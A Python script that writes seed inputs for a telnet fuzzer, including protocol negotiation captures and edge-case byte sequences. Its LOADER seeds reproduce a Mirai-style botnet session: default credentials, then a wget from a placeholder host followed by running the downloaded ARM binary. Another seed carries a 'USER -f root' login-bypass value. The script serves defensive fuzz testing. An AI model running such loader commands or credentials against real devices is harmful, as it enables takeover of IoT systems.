#!/usr/bin/env python3
"""Writes fuzz/corpus/telnet/ seeds for fuzz/telnet_fuzzer.cpp (reproducibly; overwrites its own names).

Byte 0 of each seed selects policy (bits 0-1), profile (bit 2: 0 BusyBox, 1 Rfc1143) and packet size
(bits 3-7); the rest is what the client sends. The *-capture seeds are the byte-exact client captures
of telnet_fixtures.h (capture_negotiation.py).
"""
import pathlib
import sys

ROOT = pathlib.Path(__file__).resolve().parents[4]
OUT = ROOT / "fuzz" / "corpus" / "telnet"

CAPTURES = {
    "netkit-to-busybox": "fffc01fffb1ffffa1f00500018fff0fffd01fffd03726f6f740d007863333531310d00",
    "busybox-client-to-busybox": "fffc01fffb1ffffa1f00500018fff0fffd01fffd03726f6f740d0a7863333531310d0a",
    "netkit-port23-silent": "fffd26fffb26fffd03fffb18fffb1ffffb20fffb21fffb22fffb27fffd05"
                            "726f6f740d0a7863333531310d0affec",
    "netkit-port23-to-busybox": "fffd26fffb26fffd03fffb18fffb1ffffb20fffb21fffb22fffb27fffd05fffc01"
                                "fffa1f00500018fff0fffd01726f6f740d007863333531310d00",
}

LOADER = (b"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n"
          b"cd /tmp; wget http://192.0.2.1/bins/x.arm7; chmod 777 x.arm7; ./x.arm7 telnet.arm\r\n"
          b"echo -ne '\\x7f\\x45\\x4c\\x46' > .d\r\nexit\r\n")


def seeds():
    for name, hexdata in CAPTURES.items():
        for selector, tag in ((0x01, "busybox"), (0x05, "rfc1143")):
            yield f"{name}-capture-{tag}", bytes([selector]) + bytes.fromhex(hexdata)
    yield "mirai-loader-listed", bytes([0x01]) + LOADER
    yield "mirai-loader-after-tries", bytes([0x0a]) + b"admin\r\nadmin\r\n" + LOADER
    yield "login-failures", bytes([0x01]) + b"root\r\n1\r\nroot\r\n2\r\nroot\r\n3\r\n"
    yield "cr-nul-iac-iac", bytes([0x00]) + b"root\r\0pw\r\0a\xff\xffb\r\0c\x7f\x08d\r\n\nx\ry\n"
    yield "huge-sb", bytes([0x04]) + b"\xff\xfa\x18\x00" + b"A" * 200 + b"\xff\xf0root\r\n"
    yield "sb-iac-escape", bytes([0x04]) + b"\xff\xfa\x1f\x00\xff\xff\x00\x18\xff\xf0\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0"
    yield "negotiation-flood", bytes([0x05]) + b"\xff\xfb\x2a" * 100 + b"root\r\n"
    yield "endless-line", bytes([0xf8]) + b"A" * 300 + b"\r\n"
    yield "stray-commands", bytes([0x00]) + b"\xff\xf0\xff\x10\xff\xf1\xff\xf6\xff\xf7\xff\xf8\xff\xfa\x18\x00x\xff\xf1"


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    for name, data in seeds():
        (OUT / name).write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main())
